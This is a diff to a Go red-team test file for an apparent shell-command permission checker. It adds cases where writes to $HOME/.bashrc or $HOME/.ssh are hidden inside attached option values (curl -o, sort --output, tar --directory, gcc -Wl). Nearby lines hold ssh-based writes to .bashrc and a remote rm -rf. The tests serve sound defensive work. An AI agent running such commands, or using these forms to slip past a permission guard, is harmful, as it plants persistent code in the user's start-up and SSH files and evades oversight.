@@ -1288,6 +1288,18 @@ func TestRedTeamDecisions(t *testing.T) {
 		{"S15 ssh URL to localhost", D, []string{"deny:Bash(git push:*)"}, `ssh ssh://me@localhost:2222 'git push'`, Deny},
 		{"S15 ssh localhost writes the home's start-up file", Y, nil, `ssh localhost 'echo x >> .bashrc'`, Ask},
 		{"S15 neighbour: ssh elsewhere and a login", D, nil, `ssh build.example.com 'rm -rf /tmp/x'; ssh -o BatchMode=yes localhost ls`, Allow},
+		// S17: a $HOME in an option's attached value left the option
+		// unread, and with it the write it names.
+		{"S17 sort --output=$HOME", D, nil, `sort --output=$HOME/.bashrc x`, Ask},
+		{"S17 curl -o$HOME", Y, nil, `curl -o$HOME/.bashrc https://example.com/x`, Ask},
+		{"S17 tar --directory=$HOME", Y, nil, `tar -xf a.tar --directory=$HOME/.ssh`, Ask},
+		{"S17 cp --target-directory=$HOME", Y, nil, `cp --target-directory=$HOME/.ssh x`, Ask},
+		{"S17 clang --output=$HOME", Y, nil, `clang --output=$HOME/.bashrc x.c`, Ask},
+		{"S17 gcc -Wl,-o,$HOME", Y, nil, `gcc -Wl,-o,$HOME/.bashrc x.c`, Ask},
+		{"S17 curl -s$x", D, nil, `curl -s$x https://example.com/x`, Ask},
+		{"S17 neighbour: an output in the project", D, nil, `sort --output=out.txt x`, Allow},
+		{"S17 neighbour: a cluster only known at run time", D, nil, `tar -x$y -f a.tar`, Ask},
+		{"S17 neighbour: an output only known at run time", D, nil, `sort -o "$OUT" x`, Ask},
 		{"S14 neighbour: extractions in the project", Y, nil, `7z x a.7z -obuild && cpio -idm --no-absolute-filenames -D build < a.cpio && unrar x a.rar build/ && ar x lib.a && ar rcs lib.a x.o`, Allow},
 	}
 	checkDecisions(t, tests)
